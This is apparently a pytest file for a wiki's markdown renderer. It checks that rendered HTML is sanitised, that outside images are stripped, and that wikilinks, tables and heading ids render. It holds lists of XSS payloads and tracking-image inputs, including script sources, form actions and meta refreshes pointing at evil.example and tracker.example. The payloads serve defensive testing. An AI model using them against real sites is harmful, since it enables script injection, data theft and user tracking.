"""Markdown rendering: sanitised HTML, tables, code, heading ids and [[wikilinks]]."""

import re
from html.parser import HTMLParser

import pytest

from events.rendering import render_markdown

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "svg", "math", "form", "input", "base",
                  "link", "meta", "frame", "frameset", "applet", "textarea", "button"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<p onclick="alert(1)" onmouseover=alert(2)>klicka</p>',
    '<div style="background:url(javascript:alert(1))">stil</div>',
    '<a href="javascript:alert(1)">länk</a>',
    '<a href="JaVaScRiPt:alert(1)">länk</a>',
    '<a href="jav&#x09;ascript:alert(1)">länk</a>',
    '<a href="jav&#x0A;ascript:alert(1)">länk</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">länk</a>',
    '<a href=" javascript:alert(1)">länk</a>',
    '<a href="vbscript:msgbox(1)">länk</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">länk</a>',
    "[markdown](javascript:alert(1))",
    "[markdown](JaVaScRiPt:alert(1))",
    "[markdown](jav&#x09;ascript:alert(1))",
    "![bild](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { display: none }</style>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<form action="https://evil.example"><input name=a><button>Skicka</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "[[<script>alert(1)</script>]]",
    '[[x" onmouseover="alert(1)]]',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_safe(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, html)
            assert name != "style", html
            if name in ("href", "src", "action", "formaction", "xlink:href", "background"):
                squeezed = re.sub(r"[\x00-\x20]+", "", value or "").lower()
                assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), (value, html)


@pytest.mark.parametrize("source", ATTACKS)
def test_render_markdown_sanitises(source):
    html = render_markdown(source).html
    assert_safe(html)


def test_sanitising_keeps_safe_links_and_text():
    html = render_markdown('Läs [mer](https://www.lansstyrelsen.se/dalarna) eller <a href="mailto:a@b.se">skriv</a>.').html
    anchors = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert [a["href"] for a in anchors] == ["https://www.lansstyrelsen.se/dalarna", "mailto:a@b.se"]
    assert all("noopener" in a.get("rel", "") for a in anchors)
    assert "Läs" in html and "skriv" in html
    html = render_markdown('<a href="javascript:alert(1)">länktext</a>').html
    assert "länktext" in html


def test_tables():
    html = render_markdown("| Kommun | Antal |\n|:-------|------:|\n| Falun | 12 |\n| Mora | 3 |\n").html
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert "<th>Kommun</th>" in html.replace(' align="left"', "")
    assert re.search(r'<td align="right">12</td>', html)
    assert [t for t, _ in elements(html)].count("tr") == 3


def test_fenced_code_is_escaped():
    html = render_markdown('```python\nprint("<b>hej</b>")\n```\n').html
    assert '<pre><code class="language-python">' in html
    assert "&lt;b&gt;hej&lt;/b&gt;" in html
    assert "<b>" not in html


def test_heading_ids():
    html = render_markdown("# Bakgrund\n\n## Vad gjordes?\n\n## Lärdomar och framgångsfaktorer\n\n## Bakgrund\n").html
    ids = [attrs.get("id") for tag, attrs in elements(html) if tag in ("h1", "h2")]
    assert ids == ["bakgrund", "vad-gjordes", "lardomar-och-framgangsfaktorer", "bakgrund_1"]


def test_wikilinks():
    rendered = render_markdown("Se [[Våld i nära relation]] och [[annat-exempel|det andra exemplet]].")
    anchors = [attrs for tag, attrs in elements(rendered.html) if tag == "a"]
    assert [(a["href"], a["class"]) for a in anchors] == [
        ("/exempel/vald-i-nara-relation", "wikilink"), ("/exempel/annat-exempel", "wikilink")]
    assert ">Våld i nära relation</a>" in rendered.html
    assert ">det andra exemplet</a>" in rendered.html
    assert list(rendered.links) == ["vald-i-nara-relation", "annat-exempel"]


def test_wikilink_inside_code_is_not_a_link():
    rendered = render_markdown("`[[inte-en-lank]]`\n\n```\n[[inte heller]]\n```\n")
    assert list(rendered.links) == []
    assert "wikilink" not in rendered.html


# ---- through the API ---------------------------------------------------------------------

def test_api_html_is_sanitised(world):
    body = "\n\n".join(ATTACKS)
    slug = world.example("maja", body=body)
    slug = world.api("POST", f"/examples/{slug}/publish", "eva").json["slug"]
    for username in (None, "maja"):
        response = world.api("GET", f"/examples/{slug}", username)
        assert response.status_code == 200
        assert response.json["body"] == body  # the source is kept as written
        assert_safe(response.json["html"])
    assert_safe(world.api("GET", f"/examples/{slug}?version=1", "maja").json["html"])


def test_api_html_renders_markdown(world):
    slug = world.example("maja", body="## Resultat\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nkod\n```\n")
    html = world.api("GET", f"/examples/{slug}", "maja").json["html"]
    assert '<h2 id="resultat">Resultat</h2>' in html
    assert "<table>" in html and "<td>1</td>" in html
    assert "<pre><code>kod\n</code></pre>" in html


def wikilinks(html: str) -> dict[str, str]:
    return {attrs["href"]: attrs["class"] for tag, attrs in elements(html)
            if tag == "a" and "wikilink" in attrs.get("class", "")}


def test_api_wikilinks_mark_missing_examples(world):
    target = world.example("maja", title="Målet")
    target = world.api("POST", f"/examples/{target}/publish", "eva").json["slug"]
    source = world.example("maja", title="Källan", body="[[Målet]], [[finns-inte]] och [[Målet|igen]].")
    links = wikilinks(world.api("GET", f"/examples/{source}", "maja").json["html"])
    assert links == {f"/exempel/{target}": "wikilink", "/exempel/finns-inte": "wikilink missing"}


def test_api_wikilink_to_an_example_the_reader_cannot_open_is_missing(world):
    draft = world.example("maja", title="Hemligt utkast")
    source = world.example("maja", title="Publik", body=f"Se [[{draft}]].")
    source = world.api("POST", f"/examples/{source}/publish", "eva").json["slug"]
    assert wikilinks(world.api("GET", f"/examples/{source}", "maja").json["html"]) == {
        f"/exempel/{draft}": "wikilink"}
    assert wikilinks(world.api("GET", f"/examples/{source}").json["html"]) == {
        f"/exempel/{draft}": "wikilink missing"}
    # once the target exists and is published, the link is no longer missing
    public = world.api("POST", f"/examples/{draft}/publish", "eva").json["slug"]
    assert wikilinks(world.api("GET", f"/examples/{source}").json["html"]) == {f"/exempel/{public}": "wikilink"}, \
        "a link written to the draft's address leads to its public slug"


def test_api_link_to_an_example_created_later_stops_being_missing(world):
    source = world.example("maja", title="Tidig", body="[[Senare exempel]]")
    assert wikilinks(world.api("GET", f"/examples/{source}", "maja").json["html"]) == {
        "/exempel/senare-exempel": "wikilink missing"}
    later = world.example("maja", title="Senare exempel")
    assert wikilinks(world.api("GET", f"/examples/{source}", "maja").json["html"]) == {
        "/exempel/senare-exempel": "wikilink missing"}, "a draft holds no public slug"
    assert world.api("POST", f"/examples/{later}/publish", "eva").json["slug"] == "senare-exempel"
    assert wikilinks(world.api("GET", f"/examples/{source}", "maja").json["html"]) == {
        "/exempel/senare-exempel": "wikilink"}


# ---- images only from the wiki itself ----------------------------------------------------------

OUTSIDE_IMAGES = [
    "![p](https://tracker.example/p.png)",
    "![p](http://tracker.example/p.png)",
    "![p](//tracker.example/p.png)",
    "![p][r]\n\n[r]: https://tracker.example/p.png",
    '<img alt="p" src="https://tracker.example/p.png">',
    '<img alt="p" src="http://tracker.example/p.png">',
    '<img alt="p" src="//tracker.example/p.png">',
    '<img alt="p" src="/\\tracker.example/p.png">',
    '<img alt="p" src=" https://tracker.example/p.png">',
    '<img alt="p" src="&#104;ttps://tracker.example/p.png">',
    '<IMG ALT="p" SRC="HTTPS://TRACKER.EXAMPLE/P.PNG">',
    '<img alt="p" src="tracker.png">',
    "![p](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
    '<img alt="p" src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img alt="p" src="data:text/html;base64,PHNjcmlwdD4=">',
    '<image alt="p" src="https://tracker.example/p.png">',
    "[![p](https://tracker.example/p.png)](https://example.se/)",
    "[[annat|![p](https://tracker.example/p.png)]]",
    "| a |\n|---|\n| ![p](https://tracker.example/p.png) |",
]
URL_LOADING = {"src", "srcset", "href", "xlink:href", "poster", "background", "data", "ping", "style", "lowsrc",
               "dynsrc", "imagesrcset"}


def loads_from_outside(html: str) -> list:
    """Elements that would make a browser fetch from another site (links to follow aside)."""
    found = []
    for tag, attrs in elements(html):
        for name, value in attrs.items():
            if tag == "a" and name == "href":
                continue
            if name in URL_LOADING and not (tag == "img" and name == "src" and (
                    re.fullmatch(r"/(?![/\\])[^\x00-\x20\\]*", value or "")
                    or re.match(r"data:image/(png|jpeg|gif|webp)[;,]", value or ""))):
                found.append((tag, name, value))
    return found


@pytest.mark.parametrize("source", OUTSIDE_IMAGES)
def test_outside_images_are_removed_and_the_reader_told(source):
    html = render_markdown(source).html
    assert_safe(html)
    assert loads_from_outside(html) == [], html
    assert "tracker" not in html.lower() and "<img" not in html, html
    assert '<span class="external-image-removed">[Extern bild borttagen: p]</span>' in html, html


@pytest.mark.parametrize("source", [
    '<img src="/bilagor/a.png" srcset="https://tracker.example/p.png 2x">',
    '<p style="background:url(https://tracker.example/p.png)">stil</p>',
    '<div style="background-image: url(//tracker.example/p.png)">stil</div>',
    "<style>p { background: url(https://tracker.example/p.png) }</style>",
    '<svg><image href="https://tracker.example/p.png"/></svg>',
    'text <svg><image xlink:href="https://tracker.example/p.png"/></svg> text',
    '<picture><source srcset="https://tracker.example/p.png"><img src="/bilagor/a.png"></picture>',
    '<video poster="https://tracker.example/p.png"><source src="https://tracker.example/v.mp4"></video>',
    '<audio src="https://tracker.example/a.mp3"></audio>',
    '<input type="image" src="https://tracker.example/p.png">',
    '<table background="https://tracker.example/p.png"><tr><td>x</td></tr></table>',
    '<a href="https://example.se/" ping="https://tracker.example/p">länk</a>',
    '<object data="https://tracker.example/p.svg"></object>',
    '<link rel="stylesheet" href="https://tracker.example/p.css">',
])
def test_no_attribute_or_element_loads_from_outside(source):
    html = render_markdown(source).html
    assert loads_from_outside(html) == [], html
    assert "tracker" not in html.lower(), html
    assert not {tag for tag, _ in elements(html)} & {"svg", "image", "picture", "source", "video", "audio",
                                                        "input", "style", "object", "link"}, html


def test_wiki_images_and_small_data_images_stay():
    png = "data:image/png;base64," + "iVBORw0KGgo" * 10
    html = render_markdown(f'![Logga](/bilagor/logga.png) ![Punkt]({png})\n\n<img src="/bilagor/b.webp" alt="B">').html
    images = [attrs for tag, attrs in elements(html) if tag == "img"]
    assert images == [{"alt": "Logga", "src": "/bilagor/logga.png"}, {"alt": "Punkt", "src": png},
                      {"src": "/bilagor/b.webp", "alt": "B"}]
    assert "external-image-removed" not in html
    for kind in ("jpeg", "gif", "webp"):
        assert f'src="data:image/{kind};base64,AAAA"' in render_markdown(f"![x](data:image/{kind};base64,AAAA)").html


def test_a_large_data_image_is_removed():
    small = "data:image/png;base64," + "A" * (64 * 1024 - 22)
    assert f'src="{small}"' in render_markdown(f"![stor]({small})").html
    html = render_markdown(f"![stor]({small}AAAA)").html
    assert "<img" not in html and "[Extern bild borttagen: stor]" in html


def test_the_marker_escapes_the_alt_text():
    html = render_markdown('<img alt="&lt;b&gt;fet&lt;/b&gt; &quot;x&quot;" src="https://tracker.example/p">').html
    assert "<b>" not in html and "&lt;b&gt;fet&lt;/b&gt;" in html
    assert "[Extern bild borttagen]" in render_markdown("![](https://tracker.example/p.png)").html


def test_outside_links_get_rel_and_wiki_links_do_not():
    html = render_markdown("[ute](https://example.se/a) [post](mailto:a@b.se) [skydd](//example.se/b) "
                           "[inne](/exempel/annat) [rubrik](#bakgrund) [[Annat exempel]] "
                           '<a href="https://example.se/c" rel="opener">c</a>').html
    anchors = [attrs for tag, attrs in elements(html) if tag == "a"]
    assert anchors == [
        {"href": "https://example.se/a", "rel": "noopener noreferrer nofollow"},
        {"href": "mailto:a@b.se", "rel": "noopener noreferrer nofollow"},
        {"href": "//example.se/b", "rel": "noopener noreferrer nofollow"},
        {"href": "/exempel/annat"},
        {"href": "#bakgrund"},
        {"class": "wikilink", "href": "/exempel/annat-exempel"},
        {"href": "https://example.se/c", "rel": "noopener noreferrer nofollow"},
    ]


def test_api_and_pages_remove_outside_images_and_translate_the_marker(world):
    slug = world.example("maja", body="![Logga](https://tracker.example/p.png) och ![Egen](/bilagor/a.png)")
    html = world.api("GET", f"/examples/{slug}", "maja").json["html"]
    assert "tracker" not in html and "[Extern bild borttagen: Logga]" in html and 'src="/bilagor/a.png"' in html
    client = world.browser("maja")
    page = client.get(f"/exempel/{slug}")
    assert page.status_code == 200
    assert "tracker" not in page.get_data(as_text=True)
    assert "[Extern bild borttagen: Logga]" in page.get_data(as_text=True)
    assert "img-src 'self' data:;" in page.headers["Content-Security-Policy"] + ";"
    client.get("/sprak/en?next=/")
    english = client.get(f"/exempel/{slug}").get_data(as_text=True)
    assert "[Outside image removed: Logga]" in english and "Extern bild" not in english
    assert world.api("GET", f"/examples/{slug}", "maja").json["html"] == html, "the API stays Swedish"


# ---- [[...]] that is not a title ------------------------------------------------------------------

@pytest.mark.parametrize("source, text", [
    ('[["><script>alert(3)</script>]]', '[["&gt;&lt;script&gt;alert(3)&lt;/script&gt;]]'),
    ("[[<b>fet</b>|text]]", "[[&lt;b&gt;fet&lt;/b&gt;|text]]"),
    ('[[x" onmouseover="alert(1)]]', '[[x" onmouseover="alert(1)]]'),
    ("[[a\\*b]]", "[[a*b]]"),
    ("[[`kod`]]", "[[kod]]"),
    ("[[a &amp; b]]", "[[a &amp; b]]"),
    ("[[<https://example.se>]]", "[[https://example.se]]"),
    ("[[{{x}}]]", "[[{{x}}]]"),
    ("[[---]]", "[[---]]"),
])
def test_a_wikilink_to_no_title_is_plain_text(source, text):
    rendered = render_markdown(f"Se {source} här.")
    assert list(rendered.links) == []
    assert not [tag for tag, _ in elements(rendered.html) if tag != "p"], rendered.html
    assert rendered.html == f"<p>Se {text} här.</p>"
    assert "klzzwxh" not in rendered.html and "wzxhzdk" not in rendered.html


def test_wikilinks_to_titles_with_punctuation():
    rendered = render_markdown("[[Vad gör vi? Våld & hälsa (2020)]] och [[Kvinnor’s röst: del 2, “nu”|läs]]")
    assert list(rendered.links) == ["vad-gor-vi-vald-halsa-2020", "kvinnor-s-rost-del-2-nu"]
    anchors = [attrs for tag, attrs in elements(rendered.html) if tag == "a"]
    assert all(a["class"] == "wikilink" and "rel" not in a for a in anchors)
